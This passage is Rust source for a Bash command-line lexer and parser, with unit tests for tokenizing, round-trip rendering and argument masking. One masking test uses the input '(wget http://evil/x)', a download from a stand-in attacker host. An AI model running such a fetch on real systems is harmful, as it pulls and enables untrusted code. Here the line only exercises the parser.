        assert_eq!(again, s);
    }

    #[test]
    fn render_compound_commands() {
        let f = parse("for f in a b; do cat $f; done").unwrap();
        assert_eq!(render(&f), "for f in a b; do cat $f; done");
        let w = parse("while true; do sleep 1; done").unwrap();
        assert_eq!(render(&w), "while true; do sleep 1; done");
        let i = parse("if test -f x; then cat x; else echo no; fi").unwrap();
        assert_eq!(render(&i), "if test -f x; then cat x; else echo no; fi");
        let c = parse("case $1 in a) run ;; *) usage ;; esac").unwrap();
        assert_eq!(render(&c), "case $1 in a) run ;; *) usage ;; esac");
        let d = parse("cleanup() { rm -rf /tmp/x; }").unwrap();
        assert_eq!(render(&d), "cleanup() { rm -rf /tmp/x; }");
    }

    #[test]
    fn compound_round_trip_restores_ast() {
        for line in [
            "for f in a b; do cat $f; done",
            "until ping -c1 h; do sleep 5; done",
            "if a; then b; elif c; then d; else e; fi",
            "case $x in p | q) go ;; *) ;; esac",
            "f() { echo hi; }",
            "cat <<EOF | grep x\nneedle\nEOF",
        ] {
            let ast = parse(line).unwrap();
            let again = parse(&render(&ast)).unwrap();
            assert_eq!(again, ast, "round trip changed the AST for {line:?}");
        }
    }

    #[test]
    fn mask_keeps_names_and_flags() {
        let s = parse("docker attach --sig-proxy=false mycontainer").unwrap();
        assert_eq!(mask_arguments(&s), "docker * --sig-proxy=false *");
    }

    #[test]
    fn mask_handles_assignments_and_redirects() {
        let s = parse("FOO=secret cmd arg > out.txt").unwrap();
        assert_eq!(mask_arguments(&s), "FOO=* cmd * >*");
    }

    #[test]
    fn mask_recurses_into_subshell() {
        let s = parse("(wget http://evil/x)").unwrap();
        assert_eq!(mask_arguments(&s), "(wget *)");
    }

    #[test]
    fn mask_compounds_keep_keywords() {
        let s = parse("for h in a b; do ssh $h id; done").unwrap();
        assert_eq!(mask_arguments(&s), "for h in * *; do ssh * *; done");
        let c = parse("case $1 in up) start svc ;; esac").unwrap();
        assert_eq!(mask_arguments(&c), "case * in *) start * ;; esac");
    }

    #[test]
    fn mask_heredoc_omits_body() {
        let s = parse("cat << EOF\nsecret\nEOF").unwrap();
        assert_eq!(mask_arguments(&s), "cat <<*");
    }
}
