//! Splits a raw command line into [`Token`]s.
//!
//! The lexer follows Bash's word-splitting rules for a single logical
//! line: maximal-munch operators, quoting (`'…'`, `"…"`, `\`, `$'…'`),
//! nested command substitution (`$(…)`, `` `…` ``), process substitution
//! (`<(…)`, `>(…)`), arithmetic/parameter expansion kept as opaque word
//! text, and `#` comments.

use crate::error::LexError;
use crate::token::{Operator, Quoting, Token, Word};

/// A streaming lexer over one command line.
///
/// Most callers want the convenience function [`Lexer::tokenize`]:
///
/// ```
/// use shell_parser::{Lexer, Token};
///
/// let tokens = Lexer::tokenize("ls -la | wc -l")?;
/// assert_eq!(tokens.len(), 5);
/// # Ok::<(), shell_parser::LexError>(())
/// ```
#[derive(Debug)]
pub struct Lexer {
    chars: Vec<char>,
    pos: usize,
}

impl Lexer {
    /// Creates a lexer over `input`.
    pub fn new(input: &str) -> Self {
        Lexer {
            chars: input.chars().collect(),
            pos: 0,
        }
    }

    /// Tokenizes an entire command line.
    ///
    /// # Errors
    ///
    /// Returns a [`LexError`] for unterminated quotes or substitutions and
    /// for a trailing backslash — lines Bash would refuse to read.
    pub fn tokenize(input: &str) -> Result<Vec<Token>, LexError> {
        let mut lexer = Lexer::new(input);
        let mut tokens = Vec::new();
        while let Some(token) = lexer.next_token()? {
            tokens.push(token);
        }
        Ok(tokens)
    }

    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn peek_at(&self, offset: usize) -> Option<char> {
        self.chars.get(self.pos + offset).copied()
    }

    fn bump(&mut self) -> Option<char> {
        let c = self.peek();
        if c.is_some() {
            self.pos += 1;
        }
        c
    }

    fn skip_blank(&mut self) {
        while matches!(
            self.peek(),
            Some(' ') | Some('\t') | Some('\n') | Some('\r')
        ) {
            self.pos += 1;
        }
    }

    /// Produces the next token, or `None` at end of input.
    fn next_token(&mut self) -> Result<Option<Token>, LexError> {
        self.skip_blank();
        let Some(c) = self.peek() else {
            return Ok(None);
        };

        // Comments run to end of line. They can only start a token.
        if c == '#' {
            while self.peek().is_some() {
                self.pos += 1;
            }
            return Ok(None);
        }

        // IO number: digits immediately followed by `<` or `>`.
        if c.is_ascii_digit() {
            if let Some(tok) = self.try_io_number() {
                return Ok(Some(tok));
            }
        }

        if let Some(op) = self.try_operator() {
            return Ok(Some(Token::Op(op)));
        }

        self.lex_word().map(|w| Some(Token::Word(w)))
    }

    /// Recognizes `N<` / `N>` file-descriptor prefixes without consuming a
    /// plain numeric word.
    fn try_io_number(&mut self) -> Option<Token> {
        let mut len = 0;
        while self
            .peek_at(len)
            .map(|c| c.is_ascii_digit())
            .unwrap_or(false)
        {
            len += 1;
        }
        match self.peek_at(len) {
            Some('<') | Some('>') => {
                let digits: String = self.chars[self.pos..self.pos + len].iter().collect();
                let n: u32 = digits.parse().unwrap_or(u32::MAX);
                self.pos += len;
                Some(Token::IoNumber(n))
            }
            _ => None,
        }
    }

    /// Maximal-munch operator recognition.
    fn try_operator(&mut self) -> Option<Operator> {
        let c = self.peek()?;
        let next = self.peek_at(1);
        let (op, len) = match (c, next) {
            ('|', Some('|')) => (Operator::OrIf, 2),
            ('|', Some('&')) => (Operator::PipeAmp, 2),
            ('|', _) => (Operator::Pipe, 1),
            ('&', Some('&')) => (Operator::AndIf, 2),
            ('&', _) => (Operator::Amp, 1),
            (';', Some(';')) => (Operator::DoubleSemi, 2),
            (';', _) => (Operator::Semi, 1),
            ('<', Some('<')) => {
                if self.peek_at(2) == Some('<') {
                    (Operator::TLess, 3)
                } else {
                    (Operator::DLess, 2)
                }
            }
            ('<', Some('&')) => (Operator::LessAnd, 2),
            ('<', Some('>')) => (Operator::LessGreat, 2),
            // `<(` / `>(` are process substitutions, lexed as part of a word.
            ('<', Some('(')) => return None,
            ('<', _) => (Operator::Less, 1),
            ('>', Some('>')) => (Operator::DGreat, 2),
            ('>', Some('&')) => (Operator::GreatAnd, 2),
            ('>', Some('|')) => (Operator::Clobber, 2),
            ('>', Some('(')) => return None,
            ('>', _) => (Operator::Great, 1),
            ('(', _) => (Operator::LParen, 1),
            (')', _) => (Operator::RParen, 1),
            _ => return None,
        };
        self.pos += len;
        Some(op)
    }

    /// Lexes one word, resolving quotes and tracking the raw source slice.
    fn lex_word(&mut self) -> Result<Word, LexError> {
        let start = self.pos;
        let mut text = String::new();
        let mut saw_quote = false;
        let mut saw_plain = false;
        let mut quote_style = Quoting::None;

        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\n' | '\r' => break,
                '|' | '&' | ';' | '(' | ')' => break,
                '<' | '>' => {
                    // `<(...)` / `>(...)`: process substitution is word text.
                    if self.peek_at(1) == Some('(') {
                        let sub_start = self.pos;
                        self.pos += 2;
                        self.consume_until_balanced(')', sub_start)?;
                        let raw: String = self.chars[sub_start..self.pos].iter().collect();
                        text.push_str(&raw);
                        saw_plain = true;
                        continue;
                    }
                    break;
                }
                '\'' => {
                    saw_quote = true;
                    quote_style = merge_quote(quote_style, Quoting::Single, saw_plain);
                    let q_start = self.pos;
                    self.pos += 1;
                    loop {
                        match self.bump() {
                            Some('\'') => break,
                            Some(ch) => text.push(ch),
                            None => {
                                return Err(LexError::UnterminatedQuote {
                                    quote: '\'',
                                    at: q_start,
                                })
                            }
                        }
                    }
                }
                '"' => {
                    saw_quote = true;
                    quote_style = merge_quote(quote_style, Quoting::Double, saw_plain);
                    let q_start = self.pos;
                    self.pos += 1;
                    loop {
                        match self.bump() {
                            Some('"') => break,
                            Some('\\') => match self.bump() {
                                // Inside double quotes, backslash only escapes
                                // these; otherwise it is literal.
                                Some(e @ ('"' | '\\' | '$' | '`')) => text.push(e),
                                Some(other) => {
                                    text.push('\\');
                                    text.push(other);
                                }
                                None => {
                                    return Err(LexError::UnterminatedQuote {
                                        quote: '"',
                                        at: q_start,
                                    })
                                }
                            },
                            Some('`') => {
                                // Backquote substitution nested in quotes.
                                text.push('`');
                                loop {
                                    match self.bump() {
                                        Some('`') => {
                                            text.push('`');
                                            break;
                                        }
                                        Some(ch) => text.push(ch),
                                        None => {
                                            return Err(LexError::UnterminatedSubstitution {
                                                at: q_start,
                                            })
                                        }
                                    }
                                }
                            }
                            Some(ch) => text.push(ch),
                            None => {
                                return Err(LexError::UnterminatedQuote {
                                    quote: '"',
                                    at: q_start,
                                })
                            }
                        }
                    }
                }
                '\\' => {
                    self.pos += 1;
                    match self.bump() {
                        Some(escaped) => {
                            saw_plain = true;
                            text.push(escaped);
                        }
                        None => return Err(LexError::TrailingBackslash),
                    }
                }
                '$' => {
                    saw_plain = true;
                    // `$'...'` ANSI-C quoting, `$(...)` substitution,
                    // `${...}` parameter expansion, else literal `$`.
                    match self.peek_at(1) {
                        Some('\'') => {
                            saw_quote = true;
                            quote_style = merge_quote(quote_style, Quoting::Single, saw_plain);
                            let q_start = self.pos;
                            self.pos += 2;
                            loop {
                                match self.bump() {
                                    Some('\'') => break,
                                    Some('\\') => {
                                        if let Some(e) = self.bump() {
                                            text.push(unescape_ansi_c(e));
                                        } else {
                                            return Err(LexError::UnterminatedQuote {
                                                quote: '\'',
                                                at: q_start,
                                            });
                                        }
                                    }
                                    Some(ch) => text.push(ch),
                                    None => {
                                        return Err(LexError::UnterminatedQuote {
                                            quote: '\'',
                                            at: q_start,
                                        })
                                    }
                                }
                            }
                        }
                        Some('(') => {
                            let sub_start = self.pos;
                            self.pos += 2;
                            self.consume_until_balanced(')', sub_start)?;
                            let raw: String = self.chars[sub_start..self.pos].iter().collect();
                            text.push_str(&raw);
                        }
                        Some('{') => {
                            let sub_start = self.pos;
                            self.pos += 2;
                            self.consume_until_balanced('}', sub_start)?;
                            let raw: String = self.chars[sub_start..self.pos].iter().collect();
                            text.push_str(&raw);
                        }
                        _ => {
                            text.push('$');
                            self.pos += 1;
                        }
                    }
                }
                '`' => {
                    saw_plain = true;
                    let sub_start = self.pos;
                    text.push('`');
                    self.pos += 1;
                    loop {
                        match self.bump() {
                            Some('`') => {
                                text.push('`');
                                break;
                            }
                            Some(ch) => text.push(ch),
                            None => {
                                return Err(LexError::UnterminatedSubstitution { at: sub_start })
                            }
                        }
                    }
                }
                other => {
                    saw_plain = true;
                    text.push(other);
                    self.pos += 1;
                }
            }
        }

        let raw: String = self.chars[start..self.pos].iter().collect();
        let quoting = if !saw_quote {
            Quoting::None
        } else if saw_plain {
            Quoting::Mixed
        } else {
            quote_style
        };
        Ok(Word { text, raw, quoting })
    }

    /// Consumes input until `closer` is found at nesting depth zero,
    /// respecting nested parens/braces and quotes.
    fn consume_until_balanced(&mut self, closer: char, start: usize) -> Result<(), LexError> {
        let opener = match closer {
            ')' => '(',
            '}' => '{',
            _ => unreachable!("only paren and brace groups are consumed"),
        };
        let mut depth = 1usize;
        while let Some(c) = self.bump() {
            match c {
                c if c == opener => depth += 1,
                c if c == closer => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(());
                    }
                }
                '\'' => loop {
                    match self.bump() {
                        Some('\'') => break,
                        Some(_) => {}
                        None => return Err(LexError::UnterminatedSubstitution { at: start }),
                    }
                },
                '"' => loop {
                    match self.bump() {
                        Some('"') => break,
                        Some('\\') => {
                            self.bump();
                        }
                        Some(_) => {}
                        None => return Err(LexError::UnterminatedSubstitution { at: start }),
                    }
                },
                '\\' => {
                    self.bump();
                }
                _ => {}
            }
        }
        Err(LexError::UnterminatedSubstitution { at: start })
    }
}

fn merge_quote(current: Quoting, new: Quoting, saw_plain: bool) -> Quoting {
    match (current, saw_plain) {
        (Quoting::None, false) => new,
        (q, _) if q == new => q,
        _ => Quoting::Mixed,
    }
}

fn unescape_ansi_c(c: char) -> char {
    match c {
        'n' => '\n',
        't' => '\t',
        'r' => '\r',
        '0' => '\0',
        'a' => '\x07',
        'b' => '\x08',
        'f' => '\x0c',
        'v' => '\x0b',
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(input: &str) -> Vec<String> {
        Lexer::tokenize(input)
            .unwrap()
            .into_iter()
            .filter_map(|t| t.as_word().map(|w| w.text.clone()))
            .collect()
    }

    fn ops(input: &str) -> Vec<Operator> {
        Lexer::tokenize(input)
            .unwrap()
            .into_iter()
            .filter_map(|t| t.as_op())
            .collect()
    }

    #[test]
    fn simple_words() {
        assert_eq!(words("ls -la /tmp"), vec!["ls", "-la", "/tmp"]);
    }

    #[test]
    fn pipeline_operators() {
        assert_eq!(
            ops("df -h | grep x || true && false"),
            vec![Operator::Pipe, Operator::OrIf, Operator::AndIf]
        );
    }

    #[test]
    fn single_quotes_preserve_everything() {
        assert_eq!(words("echo 'a | b > c'"), vec!["echo", "a | b > c"]);
    }

    #[test]
    fn double_quotes_resolve_escapes() {
        assert_eq!(words(r#"echo "a\"b" "#), vec!["echo", "a\"b"]);
        // Backslash before a non-special char stays literal.
        assert_eq!(words(r#"echo "a\nb""#), vec!["echo", "a\\nb"]);
    }

    #[test]
    fn backslash_escapes_outside_quotes() {
        assert_eq!(words(r"echo a\ b"), vec!["echo", "a b"]);
    }

    #[test]
    fn php_example_from_paper() {
        // php -r "phpinfo();"
        let w = words(r#"php -r "phpinfo();""#);
        assert_eq!(w, vec!["php", "-r", "phpinfo();"]);
    }

    #[test]
    fn io_number_redirect() {
        let tokens = Lexer::tokenize("cmd 2>/dev/null").unwrap();
        assert_eq!(tokens[1], Token::IoNumber(2));
        assert_eq!(tokens[2], Token::Op(Operator::Great));
    }

    #[test]
    fn numeric_word_is_not_io_number() {
        let tokens = Lexer::tokenize("sleep 10").unwrap();
        assert_eq!(tokens[1].as_word().unwrap().text, "10");
    }

    #[test]
    fn heredoc_and_herestring_operators() {
        assert_eq!(ops("cat << EOF"), vec![Operator::DLess]);
        assert_eq!(ops("cat <<< hi"), vec![Operator::TLess]);
    }

    #[test]
    fn command_substitution_kept_in_word() {
        let w = words("echo $(date +%s)");
        assert_eq!(w, vec!["echo", "$(date +%s)"]);
    }

    #[test]
    fn nested_command_substitution() {
        let w = words("echo $(echo $(date))");
        assert_eq!(w[1], "$(echo $(date))");
    }

    #[test]
    fn process_substitution_is_word() {
        let w = words("diff <(ls a) <(ls b)");
        assert_eq!(w, vec!["diff", "<(ls a)", "<(ls b)"]);
    }

    #[test]
    fn parameter_expansion_kept() {
        assert_eq!(words("echo ${HOME}/x"), vec!["echo", "${HOME}/x"]);
        assert_eq!(words("echo $HOME"), vec!["echo", "$HOME"]);
    }

    #[test]
    fn backquote_substitution() {
        assert_eq!(words("echo `date`"), vec!["echo", "`date`"]);
    }

    #[test]
    fn comment_terminates_lexing() {
        assert_eq!(words("ls # trailing comment"), vec!["ls"]);
    }

    #[test]
    fn unterminated_single_quote_errors() {
        assert!(matches!(
            Lexer::tokenize("echo 'oops"),
            Err(LexError::UnterminatedQuote { quote: '\'', .. })
        ));
    }

    #[test]
    fn unterminated_double_quote_errors() {
        assert!(matches!(
            Lexer::tokenize("echo \"oops"),
            Err(LexError::UnterminatedQuote { quote: '"', .. })
        ));
    }

    #[test]
    fn trailing_backslash_errors() {
        assert_eq!(
            Lexer::tokenize("echo a\\"),
            Err(LexError::TrailingBackslash)
        );
    }

    #[test]
    fn unterminated_substitution_errors() {
        assert!(matches!(
            Lexer::tokenize("echo $(date"),
            Err(LexError::UnterminatedSubstitution { .. })
        ));
    }

    #[test]
    fn dash_then_redirect_splits() {
        // `->` is a dash word followed by `>` — the lexing behind the
        // paper's invalid-redirection example.
        let tokens = Lexer::tokenize("a -> b").unwrap();
        assert_eq!(tokens[1].as_word().unwrap().text, "-");
        assert_eq!(tokens[2], Token::Op(Operator::Great));
    }

    #[test]
    fn ansi_c_quoting() {
        assert_eq!(words(r"echo $'a\tb'"), vec!["echo", "a\tb"]);
    }

    #[test]
    fn quoting_classification() {
        let t = Lexer::tokenize("echo 'x' \"y\" z'w'").unwrap();
        assert_eq!(t[1].as_word().unwrap().quoting, Quoting::Single);
        assert_eq!(t[2].as_word().unwrap().quoting, Quoting::Double);
        assert_eq!(t[3].as_word().unwrap().quoting, Quoting::Mixed);
    }

    #[test]
    fn empty_input_yields_no_tokens() {
        assert!(Lexer::tokenize("").unwrap().is_empty());
        assert!(Lexer::tokenize("   \t ").unwrap().is_empty());
        assert!(Lexer::tokenize("# only a comment").unwrap().is_empty());
    }

    #[test]
    fn pipe_amp_and_clobber() {
        assert_eq!(ops("a |& b"), vec![Operator::PipeAmp]);
        assert_eq!(ops("a >| f"), vec![Operator::Clobber]);
    }

    #[test]
    fn subshell_parens_are_operators() {
        assert_eq!(ops("(ls)"), vec![Operator::LParen, Operator::RParen]);
    }
}
