//! The lexer layer: splits raw source into [`Token`]s.
//!
//! The lexer follows Bash's word-splitting rules: maximal-munch
//! operators, quoting (`'…'`, `"…"`, `\`, `$'…'`), nested command
//! substitution (`$(…)`, `` `…` ``), process substitution (`<(…)`,
//! `>(…)`), arithmetic/parameter expansion, `#` comments, [`Token::Newline`]
//! separators, and here-document bodies collected from the lines after
//! the operator line (`<<`, `<<-`).
//!
//! While building each word's flat `text`/`raw` views it also emits the
//! syntax-layer [`WordUnit`] sequence, so downstream layers see the
//! word's internal structure without re-scanning the source.

use crate::error::LexError;
use crate::token::{Operator, Quoting, Token, Word};
use crate::word::{
    is_name_char, parse_param_body, scan_double_quoted_units, ParamExpansion, SubstDirection,
    Substitution, WordUnit,
};
use std::collections::VecDeque;

/// A streaming lexer over one logical command line (which may span
/// physical lines via newlines and here-documents).
///
/// Most callers want the convenience function [`Lexer::tokenize`]:
///
/// ```
/// use shell_parser::{Lexer, Token};
///
/// let tokens = Lexer::tokenize("ls -la | wc -l")?;
/// assert_eq!(tokens.len(), 5);
/// # Ok::<(), shell_parser::LexError>(())
/// ```
#[derive(Debug)]
pub struct Lexer {
    chars: Vec<char>,
    pos: usize,
    /// Here-doc delimiters seen on the current physical line, waiting
    /// for their bodies at the next newline (FIFO, per POSIX).
    pending_heredocs: Vec<(String, bool)>,
    /// Set right after a `<<` / `<<-` operator: the next word is the
    /// delimiter. The payload is the tab-strip flag.
    awaiting_delim: Option<bool>,
    /// Tokens synthesized out of band (here-doc bodies after a newline).
    queued: VecDeque<Token>,
}

impl Lexer {
    /// Creates a lexer over `input`.
    pub fn new(input: &str) -> Self {
        Lexer {
            chars: input.chars().collect(),
            pos: 0,
            pending_heredocs: Vec::new(),
            awaiting_delim: None,
            queued: VecDeque::new(),
        }
    }

    /// Tokenizes an entire command line.
    ///
    /// # Errors
    ///
    /// Returns a [`LexError`] for unterminated quotes or substitutions and
    /// for a trailing backslash — lines Bash would refuse to read.
    pub fn tokenize(input: &str) -> Result<Vec<Token>, LexError> {
        let mut lexer = Lexer::new(input);
        let mut tokens = Vec::new();
        while let Some(token) = lexer.next_token()? {
            tokens.push(token);
        }
        Ok(tokens)
    }

    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn peek_at(&self, offset: usize) -> Option<char> {
        self.chars.get(self.pos + offset).copied()
    }

    fn bump(&mut self) -> Option<char> {
        let c = self.peek();
        if c.is_some() {
            self.pos += 1;
        }
        c
    }

    fn skip_blank(&mut self) {
        while matches!(self.peek(), Some(' ') | Some('\t') | Some('\r')) {
            self.pos += 1;
        }
    }

    /// Produces the next token, or `None` at end of input, tracking
    /// here-doc delimiters as they stream past.
    fn next_token(&mut self) -> Result<Option<Token>, LexError> {
        let tok = self.next_token_inner()?;
        match &tok {
            Some(Token::Op(Operator::DLess)) => self.awaiting_delim = Some(false),
            Some(Token::Op(Operator::DLessDash)) => self.awaiting_delim = Some(true),
            Some(Token::Word(w)) => {
                if let Some(strip) = self.awaiting_delim.take() {
                    self.pending_heredocs.push((w.text.clone(), strip));
                }
            }
            _ => self.awaiting_delim = None,
        }
        Ok(tok)
    }

    fn next_token_inner(&mut self) -> Result<Option<Token>, LexError> {
        if let Some(tok) = self.queued.pop_front() {
            return Ok(Some(tok));
        }
        loop {
            self.skip_blank();
            let Some(c) = self.peek() else {
                return Ok(None);
            };

            if c == '\n' {
                self.pos += 1;
                self.collect_heredoc_bodies();
                return Ok(Some(Token::Newline));
            }

            // Comments run to end of line. They can only start a token.
            if c == '#' {
                while self.peek().is_some_and(|c| c != '\n') {
                    self.pos += 1;
                }
                if self.peek().is_none() {
                    return Ok(None);
                }
                continue; // the newline itself is the next token
            }

            // IO number: digits immediately followed by `<` or `>`.
            if c.is_ascii_digit() {
                if let Some(tok) = self.try_io_number() {
                    return Ok(Some(tok));
                }
            }

            if let Some(op) = self.try_operator() {
                return Ok(Some(Token::Op(op)));
            }

            return self.lex_word().map(|w| Some(Token::Word(w)));
        }
    }

    /// Reads the body lines of every pending here-document, queuing one
    /// [`Token::HeredocBody`] per delimiter in FIFO order. Lenient at
    /// end of input: a missing delimiter line takes the rest of the
    /// input as the body, the way interactive Bash warns but proceeds.
    fn collect_heredoc_bodies(&mut self) {
        if self.pending_heredocs.is_empty() {
            return;
        }
        for (delim, strip) in std::mem::take(&mut self.pending_heredocs) {
            let mut body = String::new();
            loop {
                if self.pos >= self.chars.len() {
                    break;
                }
                let line_start = self.pos;
                while self.peek().is_some_and(|c| c != '\n') {
                    self.pos += 1;
                }
                let line: String = self.chars[line_start..self.pos].iter().collect();
                let saw_newline = self.peek() == Some('\n');
                if saw_newline {
                    self.pos += 1;
                }
                let candidate = if strip {
                    line.trim_start_matches('\t')
                } else {
                    line.as_str()
                };
                if candidate == delim {
                    break;
                }
                let kept = if strip { candidate.to_string() } else { line };
                body.push_str(&kept);
                body.push('\n');
                if !saw_newline {
                    break;
                }
            }
            self.queued.push_back(Token::HeredocBody(body));
        }
    }

    /// Recognizes `N<` / `N>` file-descriptor prefixes without consuming a
    /// plain numeric word.
    fn try_io_number(&mut self) -> Option<Token> {
        let mut len = 0;
        while self
            .peek_at(len)
            .map(|c| c.is_ascii_digit())
            .unwrap_or(false)
        {
            len += 1;
        }
        match self.peek_at(len) {
            Some('<') | Some('>') => {
                let digits: String = self.chars[self.pos..self.pos + len].iter().collect();
                let n: u32 = digits.parse().unwrap_or(u32::MAX);
                self.pos += len;
                Some(Token::IoNumber(n))
            }
            _ => None,
        }
    }

    /// Maximal-munch operator recognition.
    fn try_operator(&mut self) -> Option<Operator> {
        let c = self.peek()?;
        let next = self.peek_at(1);
        let (op, len) = match (c, next) {
            ('|', Some('|')) => (Operator::OrIf, 2),
            ('|', Some('&')) => (Operator::PipeAmp, 2),
            ('|', _) => (Operator::Pipe, 1),
            ('&', Some('&')) => (Operator::AndIf, 2),
            ('&', _) => (Operator::Amp, 1),
            (';', Some(';')) => (Operator::DoubleSemi, 2),
            (';', _) => (Operator::Semi, 1),
            ('<', Some('<')) => match self.peek_at(2) {
                Some('<') => (Operator::TLess, 3),
                Some('-') => (Operator::DLessDash, 3),
                _ => (Operator::DLess, 2),
            },
            ('<', Some('&')) => (Operator::LessAnd, 2),
            ('<', Some('>')) => (Operator::LessGreat, 2),
            // `<(` / `>(` are process substitutions, lexed as part of a word.
            ('<', Some('(')) => return None,
            ('<', _) => (Operator::Less, 1),
            ('>', Some('>')) => (Operator::DGreat, 2),
            ('>', Some('&')) => (Operator::GreatAnd, 2),
            ('>', Some('|')) => (Operator::Clobber, 2),
            ('>', Some('(')) => return None,
            ('>', _) => (Operator::Great, 1),
            ('(', _) => (Operator::LParen, 1),
            (')', _) => (Operator::RParen, 1),
            _ => return None,
        };
        self.pos += len;
        Some(op)
    }

    /// Lexes one word, resolving quotes, tracking the raw source slice,
    /// and building the syntax-layer unit sequence alongside.
    fn lex_word(&mut self) -> Result<Word, LexError> {
        let start = self.pos;
        let mut text = String::new();
        let mut units: Vec<WordUnit> = Vec::new();
        let mut lit = String::new();
        let mut saw_quote = false;
        let mut saw_plain = false;
        let mut quote_style = Quoting::None;

        fn flush(lit: &mut String, units: &mut Vec<WordUnit>) {
            if !lit.is_empty() {
                units.push(WordUnit::Literal(std::mem::take(lit)));
            }
        }

        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\n' | '\r' => break,
                '|' | '&' | ';' | '(' | ')' => break,
                '<' | '>' => {
                    // `<(...)` / `>(...)`: process substitution is word text.
                    if self.peek_at(1) == Some('(') {
                        let sub_start = self.pos;
                        self.pos += 2;
                        self.consume_until_balanced(')', sub_start)?;
                        let raw: String = self.chars[sub_start..self.pos].iter().collect();
                        text.push_str(&raw);
                        flush(&mut lit, &mut units);
                        let body: String = self.chars[sub_start + 2..self.pos - 1].iter().collect();
                        units.push(WordUnit::ProcessSubst {
                            direction: if c == '<' {
                                SubstDirection::In
                            } else {
                                SubstDirection::Out
                            },
                            subst: Substitution::raw(body),
                        });
                        saw_plain = true;
                        continue;
                    }
                    break;
                }
                '~' if self.pos == start => {
                    // Tilde prefix: `~`, `~user`, `~user/path`.
                    saw_plain = true;
                    text.push('~');
                    self.pos += 1;
                    let mut name = String::new();
                    while let Some(n) = self.peek() {
                        if n.is_ascii_alphanumeric() || matches!(n, '_' | '.' | '-') {
                            name.push(n);
                            text.push(n);
                            self.pos += 1;
                        } else {
                            break;
                        }
                    }
                    units.push(WordUnit::Tilde(name));
                }
                '\'' => {
                    saw_quote = true;
                    quote_style = merge_quote(quote_style, Quoting::Single, saw_plain);
                    let q_start = self.pos;
                    self.pos += 1;
                    let before = text.len();
                    loop {
                        match self.bump() {
                            Some('\'') => break,
                            Some(ch) => text.push(ch),
                            None => {
                                return Err(LexError::UnterminatedQuote {
                                    quote: '\'',
                                    at: q_start,
                                })
                            }
                        }
                    }
                    flush(&mut lit, &mut units);
                    units.push(WordUnit::SingleQuoted(text[before..].to_string()));
                }
                '"' => {
                    saw_quote = true;
                    quote_style = merge_quote(quote_style, Quoting::Double, saw_plain);
                    let q_start = self.pos;
                    self.pos += 1;
                    loop {
                        match self.bump() {
                            Some('"') => break,
                            Some('\\') => match self.bump() {
                                // Inside double quotes, backslash only escapes
                                // these; otherwise it is literal.
                                Some(e @ ('"' | '\\' | '$' | '`')) => text.push(e),
                                Some(other) => {
                                    text.push('\\');
                                    text.push(other);
                                }
                                None => {
                                    return Err(LexError::UnterminatedQuote {
                                        quote: '"',
                                        at: q_start,
                                    })
                                }
                            },
                            Some('`') => {
                                // Backquote substitution nested in quotes.
                                text.push('`');
                                loop {
                                    match self.bump() {
                                        Some('`') => {
                                            text.push('`');
                                            break;
                                        }
                                        Some(ch) => text.push(ch),
                                        None => {
                                            return Err(LexError::UnterminatedSubstitution {
                                                at: q_start,
                                            })
                                        }
                                    }
                                }
                            }
                            Some(ch) => text.push(ch),
                            None => {
                                return Err(LexError::UnterminatedQuote {
                                    quote: '"',
                                    at: q_start,
                                })
                            }
                        }
                    }
                    flush(&mut lit, &mut units);
                    let raw_inner: String = self.chars[q_start + 1..self.pos - 1].iter().collect();
                    units.push(WordUnit::DoubleQuoted(scan_double_quoted_units(&raw_inner)));
                }
                '\\' => {
                    self.pos += 1;
                    match self.bump() {
                        Some(escaped) => {
                            saw_plain = true;
                            text.push(escaped);
                            lit.push(escaped);
                        }
                        None => return Err(LexError::TrailingBackslash),
                    }
                }
                '$' => {
                    saw_plain = true;
                    // `$'...'` ANSI-C quoting, `$(...)` substitution,
                    // `${...}` parameter expansion, `$name`, else literal `$`.
                    match self.peek_at(1) {
                        Some('\'') => {
                            saw_quote = true;
                            quote_style = merge_quote(quote_style, Quoting::Single, saw_plain);
                            let q_start = self.pos;
                            self.pos += 2;
                            let before = text.len();
                            loop {
                                match self.bump() {
                                    Some('\'') => break,
                                    Some('\\') => {
                                        if let Some(e) = self.bump() {
                                            text.push(unescape_ansi_c(e));
                                        } else {
                                            return Err(LexError::UnterminatedQuote {
                                                quote: '\'',
                                                at: q_start,
                                            });
                                        }
                                    }
                                    Some(ch) => text.push(ch),
                                    None => {
                                        return Err(LexError::UnterminatedQuote {
                                            quote: '\'',
                                            at: q_start,
                                        })
                                    }
                                }
                            }
                            flush(&mut lit, &mut units);
                            units.push(WordUnit::AnsiCQuoted(text[before..].to_string()));
                        }
                        Some('(') => {
                            let sub_start = self.pos;
                            self.pos += 2;
                            self.consume_until_balanced(')', sub_start)?;
                            let raw: String = self.chars[sub_start..self.pos].iter().collect();
                            text.push_str(&raw);
                            flush(&mut lit, &mut units);
                            if let Some(expr) =
                                raw.strip_prefix("$((").and_then(|r| r.strip_suffix("))"))
                            {
                                units.push(WordUnit::Arith(expr.to_string()));
                            } else {
                                let body = raw["$(".len()..raw.len() - 1].to_string();
                                units.push(WordUnit::CommandSubst(Substitution::raw(body)));
                            }
                        }
                        Some('{') => {
                            let sub_start = self.pos;
                            self.pos += 2;
                            self.consume_until_balanced('}', sub_start)?;
                            let raw: String = self.chars[sub_start..self.pos].iter().collect();
                            text.push_str(&raw);
                            flush(&mut lit, &mut units);
                            let body = &raw["${".len()..raw.len() - 1];
                            units.push(WordUnit::Param(parse_param_body(body)));
                        }
                        Some(n) if is_name_char(n) && !n.is_ascii_digit() => {
                            text.push('$');
                            self.pos += 1;
                            let mut name = String::new();
                            while let Some(ch) = self.peek() {
                                if is_name_char(ch) {
                                    name.push(ch);
                                    text.push(ch);
                                    self.pos += 1;
                                } else {
                                    break;
                                }
                            }
                            flush(&mut lit, &mut units);
                            units.push(WordUnit::Param(ParamExpansion {
                                name,
                                braced: false,
                                modifier: None,
                            }));
                        }
                        Some(s)
                            if matches!(s, '?' | '$' | '!' | '#' | '@' | '*' | '-')
                                || s.is_ascii_digit() =>
                        {
                            text.push('$');
                            text.push(s);
                            self.pos += 2;
                            flush(&mut lit, &mut units);
                            units.push(WordUnit::Param(ParamExpansion {
                                name: s.to_string(),
                                braced: false,
                                modifier: None,
                            }));
                        }
                        _ => {
                            text.push('$');
                            lit.push('$');
